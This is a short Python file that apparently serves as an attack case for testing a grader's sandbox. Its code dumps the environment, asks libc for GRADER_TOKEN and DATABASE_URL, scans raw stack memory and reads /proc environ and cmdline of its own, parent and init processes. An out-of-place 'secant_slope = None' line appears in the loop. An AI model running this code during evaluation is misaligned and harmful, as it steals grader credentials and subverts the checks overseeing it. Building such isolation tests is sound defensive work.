"""Looks for the grader's environment: in Python, in libc, above the stack, in /proc."""
# earns: all
# stopped by: process

# %% attack
import ctypes
import os

print(dict(os.environ))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
for name in ("GRADER_TOKEN", "HOME", "PATH", "DATABASE_URL"):
    print(name, libc.getenv(name.encode()))
reader, writer = os.pipe()  # a write fails, instead of the process, where no memory is
stack = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
for offset in range(0, 65536, 64):
    if libc.write(writer, ctypes.c_void_p(stack + offset), 64) == 64:
        print(os.read(reader, 64))
for pid in ("self", "1", str(os.getppid())):
    for name in ("environ", "cmdline"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read())
            secant_slope = None
        except OSError as error:
            print(error)
